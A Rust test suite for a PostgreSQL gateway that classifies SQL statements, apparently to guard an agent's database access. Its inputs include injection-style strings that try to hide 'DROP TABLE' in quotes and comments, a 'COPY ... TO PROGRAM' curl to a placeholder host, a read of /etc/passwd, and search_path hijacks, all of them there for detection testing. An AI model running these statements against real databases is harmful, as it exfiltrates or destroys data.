//! SQL text as the gateway lowers it: verbs, tables, sensitivities, and
//! the tags that make the built-ins ask; the texts that try to hide a
//! statement from the analysis.

use aileron_engine::Sensitivity::{self, Destructive, Mutate, Read, Write};
use aileron_postgres::lower::{self, Context};

/// (verb, sensitivity, tables, tags) of each Action.
fn lowered(text: &str) -> Vec<(String, Sensitivity, Vec<String>, Vec<String>)> {
    lowered_with(text, &Context::new("app", "agent"))
}

fn lowered_with(text: &str, cx: &Context) -> Vec<(String, Sensitivity, Vec<String>, Vec<String>)> {
    lower::lower(text, cx)
        .actions
        .into_iter()
        .map(|a| {
            let tables = a.facets["sql"]["tables"]
                .as_array()
                .unwrap()
                .iter()
                .map(|t| t.as_str().unwrap().to_owned())
                .collect();
            (a.verb, a.sensitivity.unwrap(), tables, a.tags)
        })
        .collect()
}

/// Verb and sensitivity of the first Action.
fn first(text: &str) -> (String, Sensitivity) {
    let l = lowered(text);
    assert!(!l.is_empty(), "{text}: no action");
    (l[0].0.clone(), l[0].1)
}

fn verbs(text: &str) -> Vec<String> {
    lowered(text).into_iter().map(|a| a.0).collect()
}

fn tagged(text: &str, tag: &str) -> bool {
    lowered(text).iter().any(|a| a.3.iter().any(|t| t == tag))
}

fn s(v: &str) -> String {
    v.to_owned()
}

#[test]
fn the_verb_and_its_sensitivity() {
    for (text, verb, sens) in [
        ("SELECT * FROM users", "SELECT", Read),
        ("select 1", "SELECT", Read),
        ("WITH x AS (SELECT 1) SELECT * FROM x", "SELECT", Read),
        ("VALUES (1), (2)", "SELECT", Read),
        ("SHOW search_path", "SHOW", Read),
        ("EXPLAIN SELECT * FROM users", "EXPLAIN", Read),
        ("BEGIN", "BEGIN", Read),
        ("START TRANSACTION", "BEGIN", Read),
        ("COMMIT", "COMMIT", Read),
        ("ROLLBACK", "ROLLBACK", Read),
        ("SET statement_timeout = 5000", "SET", Read),
        ("SET ROLE admin", "SET", Mutate),
        ("SET SESSION AUTHORIZATION admin", "SET", Mutate),
        ("INSERT INTO users (name) VALUES ('a')", "INSERT", Write),
        (
            "INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2",
            "INSERT",
            Mutate,
        ),
        (
            "INSERT INTO users (id) VALUES (1) ON CONFLICT DO NOTHING",
            "INSERT",
            Write,
        ),
        ("UPDATE users SET name = 'b' WHERE id = 1", "UPDATE", Mutate),
        ("UPDATE users SET name = 'b'", "UPDATE", Destructive),
        ("DELETE FROM users WHERE id = 1", "DELETE", Mutate),
        ("DELETE FROM users", "DELETE", Destructive),
        ("DROP TABLE users", "DROP", Destructive),
        ("DROP INDEX users_name", "DROP", Destructive),
        ("TRUNCATE users", "TRUNCATE", Destructive),
        ("CREATE TABLE t (id int)", "CREATE", Write),
        ("CREATE INDEX i ON users (name)", "CREATE", Write),
        ("CREATE OR REPLACE VIEW v AS SELECT 1", "CREATE", Mutate),
        ("ALTER TABLE users ADD COLUMN age int", "ALTER", Mutate),
        ("ALTER TABLE users DROP COLUMN age", "ALTER", Destructive),
        ("GRANT SELECT ON users TO bob", "GRANT", Mutate),
        ("REVOKE SELECT ON users FROM bob", "REVOKE", Mutate),
        ("COPY users TO STDOUT", "COPY", Read),
        ("COPY users FROM STDIN", "COPY", Write),
        ("COPY users TO '/tmp/x'", "COPY", Write),
        ("SELECT * INTO newt FROM users", "SELECT", Write),
        ("LISTEN ch", "LISTEN", Read),
        ("NOTIFY ch", "NOTIFY", Write),
        ("VACUUM users", "VACUUM", Write),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            "MERGE",
            Mutate,
        ),
    ] {
        assert_eq!(first(text), (s(verb), sens), "{text}");
    }
}

#[test]
fn tables_are_named_as_written_folded_as_the_server_folds_them() {
    let tables = |t: &str| lowered(t)[0].2.clone();
    assert_eq!(tables("SELECT * FROM Users"), [s("users")]);
    assert_eq!(tables("SELECT * FROM \"Users\""), [s("Users")]);
    assert_eq!(tables("SELECT * FROM public.Users u"), [s("public.users")]);
    assert_eq!(
        tables("SELECT * FROM a JOIN b ON a.id = b.id WHERE a.x IN (SELECT x FROM c)"),
        [s("a"), s("b"), s("c")]
    );
    assert_eq!(
        tables("INSERT INTO log SELECT * FROM users"),
        [s("log"), s("users")]
    );
    assert_eq!(
        tables("UPDATE users SET a = 1 FROM t WHERE t.id = users.id"),
        [s("users"), s("t")]
    );
    assert_eq!(tables("DELETE FROM users WHERE id = 1"), [s("users")]);
    assert_eq!(tables("DROP TABLE a, s.b"), [s("a"), s("s.b")]);
    assert_eq!(tables("TRUNCATE a, b"), [s("a"), s("b")]);
    assert_eq!(tables("ALTER TABLE users ADD COLUMN x int"), [s("users")]);
    assert_eq!(
        tables("CREATE TABLE t2 AS SELECT * FROM users"),
        [s("t2"), s("users")]
    );
    assert_eq!(tables("CREATE INDEX i ON users (name)"), [s("users")]);
    assert_eq!(
        tables("GRANT SELECT ON users, orders TO bob"),
        [s("users"), s("orders")]
    );
    assert_eq!(tables("COPY users FROM STDIN"), [s("users")]);
    assert_eq!(tables("COPY (SELECT * FROM users) TO STDOUT"), [s("users")]);
    assert_eq!(
        tables("SELECT * INTO newt FROM users"),
        [s("users"), s("newt")]
    );
    // A function in FROM is no table.
    assert_eq!(
        tables("SELECT * FROM generate_series(1, 3) g, users"),
        [s("users")]
    );
    assert!(tables("SELECT 1").is_empty());
}

#[test]
fn each_statement_of_a_string_is_an_action() {
    assert_eq!(verbs("SELECT 1; DROP TABLE x"), ["SELECT", "DROP"]);
    assert_eq!(
        verbs("BEGIN; DELETE FROM users; COMMIT;"),
        ["BEGIN", "DELETE", "COMMIT"]
    );
    let l = lower::lower("SELECT 1;  DROP TABLE x ;", &Context::new("d", "u"));
    let texts: Vec<&str> = l
        .actions
        .iter()
        .map(|a| a.facets["sql"]["text"].as_str().unwrap())
        .collect();
    assert_eq!(texts, ["SELECT 1", "DROP TABLE x"]);
    assert_eq!(l.actions[1].facets["sql"]["database"], "d");
    assert_eq!(l.actions[1].facets["sql"]["user"], "u");
}

#[test]
fn blanks_and_comments_are_no_statement() {
    for t in [
        "",
        "  ",
        ";",
        " ; ; ",
        "-- nothing",
        "/* nothing */",
        "/* a /* nested */ one */;",
    ] {
        assert!(lowered(t).is_empty(), "{t:?}");
    }
}

#[test]
fn quoting_and_comments_hide_no_statement() {
    // Inside strings, dollar quotes and comments a `;` ends nothing.
    for t in [
        "SELECT $$ ; DROP TABLE x $$",
        "SELECT $tag$ ; DROP TABLE x; $tag$",
        "SELECT $a$ $$ ; DROP TABLE x; $$ $a$",
        "SELECT 1 /* ; DROP TABLE x */",
        "SELECT 1 -- ; DROP TABLE x",
        "SELECT 1 /* /* nested */ ; DROP TABLE x; */",
        "SELECT 'a; DROP TABLE x'",
        "SELECT 'it''s; DROP TABLE x'",
        "SELECT E'\\'; DROP TABLE x; --'",
        "SELECT \"a;DROP TABLE x\" FROM t",
        "SELECT U&'\\0041; DROP TABLE x'",
    ] {
        assert_eq!(verbs(t), ["SELECT"], "{t}");
    }
    // And where they end, what follows is seen.
    for t in [
        "SELECT $$ x $$; DROP TABLE x",
        "SELECT 1 /* c */; DROP TABLE x",
        "SELECT 1 -- c\n; DROP TABLE x",
        "SELECT 1 /* /* nested */ */; DROP TABLE x",
        "SELECT 'a\\'; DROP TABLE x; --'",
        "SELECT E'a\\\\'; DROP TABLE x; --'",
        "SELECT a$b$ FROM t; DROP TABLE x; SELECT 1",
        // The tokenizer refuses this (the server reads `\` as no escape
        // under UESCAPE '!'): what a `;` cuts out is decided anyway.
        "SELECT U&'\\' UESCAPE '!'; DROP TABLE x; --'",
    ] {
        assert!(verbs(t).iter().any(|v| v == "DROP"), "{t}: {:?}", verbs(t));
    }
}

#[test]
fn a_statement_nested_in_another_is_decided_too() {
    let l = lowered("WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d");
    assert_eq!(
        l.iter().map(|a| (a.0.as_str(), a.1)).collect::<Vec<_>>(),
        [("SELECT", Destructive), ("DELETE", Destructive)]
    );
    assert!(l[1].2.contains(&s("users")));
    // EXPLAIN ANALYZE runs its statement; EXPLAIN alone does not.
    assert_eq!(
        verbs("EXPLAIN ANALYZE DELETE FROM users"),
        ["EXPLAIN", "DELETE"]
    );
    assert_eq!(
        verbs("EXPLAIN (ANALYZE) DELETE FROM users"),
        ["EXPLAIN", "DELETE"]
    );
    assert_eq!(
        verbs("EXPLAIN (ANALYZE true) DELETE FROM users"),
        ["EXPLAIN", "DELETE"]
    );
    assert_eq!(
        verbs("EXPLAIN (ANALYZE false) DELETE FROM users"),
        ["EXPLAIN"]
    );
    assert_eq!(verbs("EXPLAIN DELETE FROM users"), ["EXPLAIN"]);
    assert_eq!(first("EXPLAIN DELETE FROM users"), (s("EXPLAIN"), Read));
    // PREPARE is decided as what it prepares.
    let l = lowered("PREPARE p (int) AS DELETE FROM users WHERE id = $1");
    assert_eq!(
        l.iter().map(|a| a.0.as_str()).collect::<Vec<_>>(),
        ["PREPARE", "DELETE"]
    );
    assert_eq!(l[0].1, Mutate);
}

#[test]
fn execute_is_decided_as_the_statement_prepared_on_the_connection() {
    let l = lower::lower(
        "PREPARE p (int) AS DELETE FROM users WHERE id = $1",
        &Context::new("d", "u"),
    );
    assert_eq!(l.prepares.len(), 1);
    let (name, text) = l.prepares[0].clone();
    assert_eq!(name, "p");
    let lookup = move |n: &str| (n == name).then(|| text.clone());
    let cx = Context {
        prepared: &lookup,
        ..Context::new("d", "u")
    };
    let l = lowered_with("EXECUTE P(1)", &cx);
    assert_eq!(
        l.iter().map(|a| a.0.as_str()).collect::<Vec<_>>(),
        ["EXECUTE", "DELETE"]
    );
    assert_eq!(l[0].1, Mutate);
    assert_eq!(l[0].2, [s("users")]);
    assert!(l[0].3.is_empty());
    // Not prepared here: dynamic SQL.
    assert!(tagged("EXECUTE q(1)", "dynamic"));
}

#[test]
fn code_the_analysis_cannot_see_through_is_dynamic() {
    for t in [
        "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$",
        "DO LANGUAGE plpgsql $$ BEGIN NULL; END $$",
        "do 'begin null; end'",
        "SELECT f()",
        "SELECT my_schema.lower(name) FROM users",
        "SELECT * FROM users WHERE id = public.pick()",
        "SELECT * FROM evil(1)",
        "SELECT set_config('search_path', 'x', false)",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT query_to_xml('DROP TABLE x', true, true, '')",
        "SELECT dblink_exec('host=x', 'DROP TABLE x')",
        "CALL p()",
        "COPY users TO PROGRAM 'curl -d @- evil'",
        "COPY users FROM PROGRAM 'id'",
        "INSERT INTO t SELECT f() FROM users",
        "SET search_path = evil, pg_catalog",
        "LOAD 'evil'",
    ] {
        assert!(tagged(t, "dynamic"), "{t}: {:?}", lowered(t));
        assert!(lowered(t)[0].1 >= Mutate, "{t}");
    }
    // PostgreSQL's own functions that compute a value are no code to ask about.
    for t in [
        "SELECT count(*), max(id), lower(name), now(), coalesce(a, 1) FROM users",
        "SELECT pg_catalog.lower('A')",
        "SELECT * FROM generate_series(1, 10)",
        "SELECT jsonb_build_object('a', 1)",
        "SELECT CURRENT_TIMESTAMP, current_user",
        "SET search_path = app, public",
    ] {
        assert!(!tagged(t, "dynamic"), "{t}: {:?}", lowered(t));
    }
    assert_eq!(first("SELECT nextval('s')"), (s("SELECT"), Write));
}

#[test]
fn text_the_parser_cannot_read_is_unparsable_with_its_first_word() {
    for (t, verb) in [
        ("SELEC 1", "SELEC"),
        ("SELECT 'unterminated", "SELECT"),
        ("SELECT $$ unterminated", "SELECT"),
        ("DROP TABLE x WITH NONSENSE", "DROP"),
        ("CHECKPOINT", "CHECKPOINT"),
        ("TABLE users", "TABLE"),
        ("SELECT 1 END", "SELECT"),
    ] {
        let l = lowered(t);
        assert!(
            l.iter()
                .any(|a| a.0 == verb && a.3.iter().any(|t| t == "unparsable")),
            "{t}: {l:?}"
        );
    }
    // A DROP beside text the parser does not read is still a DROP.
    let l = lowered("CHECKPOINT; DROP TABLE users");
    assert!(
        l.iter()
            .any(|a| a.0 == "DROP" && a.1 == Destructive && a.3.is_empty()),
        "{l:?}"
    );
    // An unparsable DROP is destructive, whatever else it is.
    assert_eq!(first("DROP TABLE x WITH NONSENSE").1, Destructive);
}

#[test]
fn what_the_server_may_read_otherwise_is_unparsable() {
    // Backslashes, when the server may read them as escapes.
    let cx = Context {
        backslash_escapes: true,
        ..Context::new("d", "u")
    };
    let t = "SELECT '\\''; DROP TABLE t; --'";
    assert!(
        lowered_with(t, &cx)
            .iter()
            .any(|a| a.3.iter().any(|t| t == "unparsable"))
    );
    assert!(
        !lowered_with("SELECT 'a'", &cx)
            .iter()
            .any(|a| !a.3.is_empty())
    );
    // Bytes that are not UTF-8, or not ASCII in an encoding not known to be UTF-8.
    let l = lower::lower_bytes(
        b"SELECT '\x95\\'; DROP TABLE t; --'",
        true,
        &Context::new("d", "u"),
    );
    assert!(
        l.actions
            .iter()
            .any(|a| a.tags.iter().any(|t| t == "unparsable"))
    );
    let l = lower::lower_bytes("SELECT 'é'".as_bytes(), false, &Context::new("d", "u"));
    assert!(
        l.actions
            .iter()
            .any(|a| a.tags.iter().any(|t| t == "unparsable"))
    );
    let l = lower::lower_bytes("SELECT 'é'".as_bytes(), true, &Context::new("d", "u"));
    assert!(l.actions.iter().all(|a| a.tags.is_empty()));
    // What may change how later text is read.
    let cx = Context::new("d", "u");
    for t in [
        "SET standard_conforming_strings = off",
        "SET client_encoding = 'SJIS'",
        "SET NAMES 'SJIS'",
        "SELECT f()",
    ] {
        assert!(lower::lower(t, &cx).changes_reading, "{t}");
    }
    for t in ["SELECT 1", "SELECT names FROM t", "SET search_path = app"] {
        assert!(!lower::lower(t, &cx).changes_reading, "{t}");
    }
}

#[test]
fn passwords_never_reach_the_text() {
    let l = lower::lower(
        "CREATE ROLE bob LOGIN PASSWORD 'hunter2'; ALTER USER bob WITH PASSWORD E'x\\'y'",
        &Context::new("d", "u"),
    );
    for a in &l.actions {
        let text = a.facets["sql"]["text"].as_str().unwrap();
        assert!(
            !text.contains("hunter2") && !text.contains("x\\'y"),
            "{text}"
        );
        assert!(!a.summary.contains("hunter2"), "{}", a.summary);
    }
}

#[test]
fn a_long_text_is_one_short_line_in_the_summary() {
    let text = format!("SELECT\n  {}", "a, ".repeat(500));
    let l = lower::lower(&format!("{text}1"), &Context::new("d", "u"));
    assert!(l.line.chars().count() <= 201, "{}", l.line);
    assert!(!l.line.contains('\n'));
    assert!(l.actions[0].summary.chars().count() <= 201);
}

/// Sensitivity and tags of the first Action.
fn marks(text: &str) -> (Sensitivity, Vec<String>) {
    let l = lowered(text);
    assert!(!l.is_empty(), "{text}: no action");
    (l[0].1, l[0].3.clone())
}

#[test]
fn a_qualified_column_may_be_a_call_and_is_tagged() {
    // `t.wipe` is `wipe(t)` when t has no column wipe (attribute notation):
    // the text alone cannot tell, so each is tagged `field-call`.
    for text in [
        "SELECT t.wipe FROM t",
        "SELECT (t).wipe FROM t",
        "SELECT s.t.wipe FROM s.t",
        "SELECT id FROM t WHERE t.wipe IS NOT NULL",
        "SELECT id FROM t ORDER BY t.wipe",
        "SELECT x FROM (SELECT t.wipe AS x FROM t) q",
        "SELECT (SELECT t.wipe FROM t LIMIT 1)",
        "VALUES ((SELECT t.wipe FROM t LIMIT 1))",
        "SELECT a.id FROM a JOIN b ON a.id = b.id",
        "UPDATE t SET n = 1 WHERE t.wipe",
    ] {
        assert!(tagged(text, "field-call"), "{text}");
        // Once allowed it is taken for a column: no doubt about what follows.
        let l = lower::lower(text, &Context::new("app", "agent"));
        assert!(!l.changes_reading && !l.changes_names, "{text}");
    }
    // Unqualified names are columns (or a whole row): no call.
    for text in [
        "SELECT id, name FROM t",
        "SELECT t FROM t",
        "SELECT t.* FROM t",
        "SELECT count(*) FROM t WHERE id > 1",
        "SELECT lower(name) FROM t",
    ] {
        assert_eq!(marks(text), (Read, vec![]), "{text}");
    }
}

#[test]
fn a_read_verb_that_writes_is_tagged_write_in_read() {
    for text in [
        "SELECT nextval('s')",
        "SELECT setval('s', 1)",
        "SELECT pg_catalog.setval('s', 1)",
        "VALUES ((SELECT setval('s', 1)))",
        "SELECT 1 WHERE nextval('s') > 0",
        "SELECT * FROM (SELECT nextval('s')) q",
        "WITH q AS (SELECT setval('s', 5)) SELECT * FROM q",
        "SELECT * INTO copy FROM t",
        "SELECT * INTO TEMP copy FROM t",
        "DECLARE c CURSOR FOR SELECT nextval('s')",
        "COPY (SELECT setval('s', 1)) TO STDOUT",
    ] {
        let (sens, tags) = marks(text);
        assert!(sens >= Write, "{text}: {sens:?}");
        assert!(
            tags.iter().any(|t| t == "write-in-read"),
            "{text}: {tags:?}"
        );
    }
    // A statement nested in a read is an Action of its own, under its verb.
    for text in [
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "EXPLAIN ANALYZE DELETE FROM t WHERE id = 1",
    ] {
        assert_eq!(verbs(text)[1], "DELETE", "{text}");
        assert!(marks(text).0 >= Mutate, "{text}");
    }
    // Reading a sequence is a read; a write by its own verb is not hidden.
    assert_eq!(marks("SELECT currval('s'), lastval()"), (Read, vec![]));
    assert!(!tagged(
        "INSERT INTO t VALUES (nextval('s'))",
        "write-in-read"
    ));
    assert!(!tagged("DELETE FROM t WHERE id = 1", "write-in-read"));
    // A call the analysis cannot see through stays `dynamic` only (an
    // override of builtin:sql-dynamic still lets it through).
    assert_eq!(marks("SELECT my_func(1)"), (Mutate, vec![s("dynamic")]));
}

#[test]
fn settings_of_name_resolution_and_identity() {
    for (text, sens, dynamic) in [
        ("SET role = 'admin'", Mutate, false),
        ("SET session_authorization = 'admin'", Mutate, false),
        ("SET search_path = public", Read, false),
        ("SET search_path TO pg_catalog, public", Read, false),
        ("SET search_path TO \"PG_CATALOG\", public", Read, false),
        ("SET search_path TO public, pg_catalog", Mutate, true),
        ("SET LOCAL search_path TO public, pg_catalog", Mutate, true),
        ("SET search_path = public, 'pg_catalog'", Mutate, true),
        ("SET search_path = public, \"pg_catalog\"", Mutate, true),
        ("SET search_path = public, E'pg_catalog'", Mutate, true),
        (
            "SELECT set_config('search_path', 'public,pg_catalog', false)",
            Mutate,
            true,
        ),
    ] {
        let (got, tags) = marks(text);
        assert_eq!(got, sens, "{text}");
        assert_eq!(
            tags.iter().any(|t| t == "dynamic"),
            dynamic,
            "{text}: {tags:?}"
        );
    }
}

mod startup {
    use super::*;
    use aileron_postgres::startup;

    /// (sensitivity, tags) of each Action for the startup `params`.
    fn decided(params: &[(&str, &str)]) -> Vec<(Sensitivity, Vec<String>)> {
        let params: Vec<(String, String)> = params
            .iter()
            .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
            .collect();
        startup::actions(&params, &Context::new("app", "agent"))
            .into_iter()
            .inspect(|a| assert_eq!(a.verb, "SET"))
            .map(|a| (a.sensitivity.unwrap(), a.tags))
            .collect()
    }

    #[test]
    fn the_usual_parameters_are_not_decided() {
        assert!(
            decided(&[
                ("user", "app"),
                ("database", "app"),
                ("application_name", "psql"),
                ("client_encoding", "UTF8"),
                ("DateStyle", "ISO"),
                ("options", "-c statement_timeout=5000 --work_mem=64MB"),
                ("_pq_.x", "y"),
            ])
            .is_empty()
        );
    }

    #[test]
    fn search_path_and_identity_are_decided_however_they_are_sent() {
        let dynamic = (Mutate, vec![s("dynamic")]);
        for params in [
            vec![("search_path", "public,pg_catalog")],
            vec![("SEARCH_PATH", "\"$user\", public, pg_catalog")],
            vec![("options", "-c search_path=public,pg_catalog")],
            vec![("options", "-csearch_path=public,pg_catalog")],
            vec![("options", "--search_path=public,pg_catalog")],
            vec![("options", "--search-path=public,pg_catalog")],
            vec![("options", r"-c search_path=public,\ pg_catalog")],
            vec![("options", "-c\x0bsearch_path=public,pg_catalog")],
            vec![("options", "-c\tsearch_path=public,pg_catalog")],
            vec![(
                "options",
                "-c statement_timeout=1 -c search_path=x,pg_catalog",
            )],
            vec![("search_path", "public, \"pg_catalog")],
        ] {
            assert_eq!(
                decided(&params),
                std::slice::from_ref(&dynamic),
                "{params:?}"
            );
        }
        // pg_catalog first, or not named (searched first): a plain read.
        for value in ["public", "pg_catalog, public", "\"PG_CATALOG\", public", ""] {
            assert_eq!(
                decided(&[("search_path", value)]),
                [(Read, vec![])],
                "{value}"
            );
        }
        for params in [
            vec![("role", "admin")],
            vec![("options", "-c role=admin")],
            vec![("options", "--session_authorization=admin")],
        ] {
            assert_eq!(decided(&params), [(Mutate, vec![])], "{params:?}");
        }
        assert_eq!(
            decided(&[("options", "-c session_preload_libraries=x")]),
            [dynamic]
        );
    }

    #[test]
    fn an_option_the_gateway_does_not_read_is_unparsable() {
        for options in [
            "-e",
            "-c",
            "-c noequals",
            "-ec search_path=x",
            "-B 100",
            "--",
            "x",
            "-c \u{a0}search_path=public,pg_catalog",
            "--search_path\u{2028}=x",
        ] {
            let got = decided(&[("options", options)]);
            assert!(
                got.iter()
                    .any(|(_, tags)| tags.iter().any(|t| t == "unparsable")),
                "{options}: {got:?}"
            );
        }
    }
}

#[test]
fn defining_code_under_a_trusted_name_or_an_operator_is_dynamic() {
    // `SELECT lower(1)` would call a `public.lower(integer)`: the server
    // picks among functions of one name by their argument types.
    for text in [
        "CREATE FUNCTION lower(integer) RETURNS int LANGUAGE sql AS 'DELETE FROM t; SELECT 1'",
        "CREATE OR REPLACE FUNCTION public.count(t) RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "CREATE FUNCTION \"nextval\"(int) RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "CREATE AGGREGATE max (int) (SFUNC = int4larger, STYPE = int)",
    ] {
        assert!(tagged(text, "dynamic"), "{text}: {:?}", lowered(text));
    }
    // An operator calls its function without naming it: asked about
    // (dynamic where the parser reads it, else unparsable).
    for text in [
        "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = wipe)",
        "CREATE OPERATOR + (LEFTARG = int, RIGHTARG = t, FUNCTION = wipe)",
        "CREATE OPERATOR public.<-> (LEFTARG = int, RIGHTARG = int, PROCEDURE = wipe)",
    ] {
        assert!(
            tagged(text, "dynamic") || tagged(text, "unparsable"),
            "{text}: {:?}",
            lowered(text)
        );
    }
    for text in [
        "CREATE FUNCTION add_one(integer) RETURNS int LANGUAGE sql AS 'SELECT $1 + 1'",
        "CREATE FUNCTION \"Lower\"(integer) RETURNS int LANGUAGE sql AS 'SELECT 1'",
    ] {
        assert!(!tagged(text, "dynamic"), "{text}");
    }
}

#[test]
fn after_code_the_analysis_cannot_see_only_pg_catalog_names_are_trusted() {
    // set_config('search_path', ...) or a function may have put pg_catalog
    // after another schema: what it allowed says so.
    for text in [
        "SELECT set_config('search_path', 'public,pg_catalog', false)",
        "SET search_path = public, pg_catalog",
        "SELECT my_func()",
        "DO $$ BEGIN PERFORM 1; END $$",
    ] {
        assert!(
            lower::lower(text, &Context::new("d", "u")).changes_names,
            "{text}"
        );
    }
    for text in [
        "SELECT lower('A')",
        "SET search_path = app, public",
        "SELECT t.id FROM t",
    ] {
        assert!(
            !lower::lower(text, &Context::new("d", "u")).changes_names,
            "{text}"
        );
    }
    let cx = Context {
        trusted_names: false,
        ..Context::new("d", "u")
    };
    for text in [
        "SELECT lower('A')",
        "SELECT count(*) FROM t",
        "SELECT * FROM generate_series(1, 3)",
        "SELECT nextval('s')",
    ] {
        let l = lowered_with(text, &cx);
        assert!(l[0].3.iter().any(|t| t == "dynamic"), "{text}: {l:?}");
    }
    for text in [
        "SELECT pg_catalog.lower('A')",
        "SELECT pg_catalog.count(*) FROM t",
        "SELECT id FROM t",
    ] {
        let l = lowered_with(text, &cx);
        assert!(l[0].3.is_empty(), "{text}: {l:?}");
    }
}
